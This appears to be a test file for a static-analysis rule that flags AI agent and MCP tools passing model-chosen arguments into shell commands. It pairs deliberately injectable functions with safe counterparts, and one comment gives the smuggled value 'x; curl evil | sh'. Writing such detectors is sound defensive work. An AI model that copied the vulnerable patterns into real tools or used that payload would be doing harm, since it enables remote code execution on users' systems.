"""An MCP server and agent tools that run shell commands built from the arguments the model chose."""
import os
import shlex
import subprocess

from crewai.tools import BaseTool as CrewBaseTool
from langchain_core.tools import BaseTool, tool
from mcp.server.fastmcp import FastMCP
from agents import function_tool

mcp = FastMCP("devtools")

ALLOWED_TARGETS = {"build", "test", "lint"}


def run_shell(command: str) -> str:
    # ruleid: llm-output-code-execution
    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout


def git_command(subcommand: str, ref: str) -> str:
    return f"git {subcommand} {ref}"


@mcp.tool()
def grep_repo(pattern: str, path: str = ".") -> str:
    """Search the repository."""
    cmd = f"grep -rn {pattern} {path}"
    # ruleid: llm-output-code-execution
    out = subprocess.check_output(cmd, shell=True, text=True)
    return out


@mcp.tool()
def disk_usage(folder: str) -> str:
    # ruleid: llm-output-code-execution
    return os.popen("du -sh " + folder).read()


# script runners: running the script the MCP client sends is the tool's declared purpose (the client
# approves each call); the capability is reported by destructive-tool-without-annotations, not as an injection
@mcp.tool()
def run_script(script: str) -> str:
    argv = ["sh", "-c", script]
    # ok: llm-output-code-execution
    return subprocess.run(argv, capture_output=True, text=True).stdout


@mcp.tool()
def run_inline(script: str) -> str:
    # ok: llm-output-code-execution
    proc = subprocess.Popen(["/bin/bash", "-c", script], stdout=subprocess.PIPE)
    return proc.communicate()[0].decode()


@mcp.tool()
def archive(name: str) -> str:
    # the name is formatted into a fixed script: "x; curl evil | sh" runs too
    # ruleid: llm-output-code-execution
    proc = subprocess.Popen(["/bin/bash", "-c", f"tar czf {name}.tgz src"], stdout=subprocess.PIPE)
    return proc.communicate()[0].decode()


@mcp.tool()
def show_log(ref: str) -> str:
    return run_shell(git_command("log", ref))


@mcp.tool()
def make_target(target: str) -> int:
    # ruleid: llm-output-code-execution
    return os.system("make %s" % target)


@mcp.tool()
def make_allowed(target: str) -> int:
    if target not in ALLOWED_TARGETS:
        raise ValueError("unknown target")
    # ok: llm-output-code-execution
    return os.system(f"make {target}")


@mcp.tool()
def grep_quoted(pattern: str) -> str:
    # ok: llm-output-code-execution
    return subprocess.check_output(f"grep -rn {shlex.quote(pattern)} .", shell=True, text=True)


@mcp.tool()
def grep_argv(pattern: str) -> str:
    # ok: llm-output-code-execution
    return subprocess.run(["grep", "-rn", "--", pattern, "."], capture_output=True, text=True).stdout


@mcp.tool()
def count_lines(path: str) -> int:
    # ok: llm-output-code-execution
    return len(run_shell_fixed())


def run_shell_fixed() -> str:
    # ok: llm-output-code-execution
    return subprocess.run("git status --short", shell=True, capture_output=True, text=True).stdout


@tool
def shell(command: str) -> str:
    """Run a shell command."""
    # ruleid: llm-output-code-execution
    return subprocess.getoutput(command)


@function_tool
def python_version(interpreter: str) -> str:
    cmd = interpreter + " --version"
    # ruleid: llm-output-code-execution
    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout


class TerminalTool(BaseTool):
    name: str = "terminal"
    description: str = "Runs a command in the project folder"

    def _run(self, command: str) -> str:
        full = self._wrap(command)
        # ruleid: llm-output-code-execution
        return subprocess.run(full, shell=True, capture_output=True, text=True).stdout

    def _wrap(self, command: str) -> str:
        return "cd /srv/project && " + command


class CrewShellTool(CrewBaseTool):
    name: str = "crew_shell"
    description: str = "Runs a command"

    def _run(self, command: str) -> str:
        # ruleid: llm-output-code-execution
        return os.popen(command).read()


def local_helper(flag: str) -> str:
    # a helper called only with constants is not a sink
    # ok: llm-output-code-execution
    return subprocess.run(f"ls {flag}", shell=True, capture_output=True, text=True).stdout


def listing() -> str:
    return local_helper("-la")
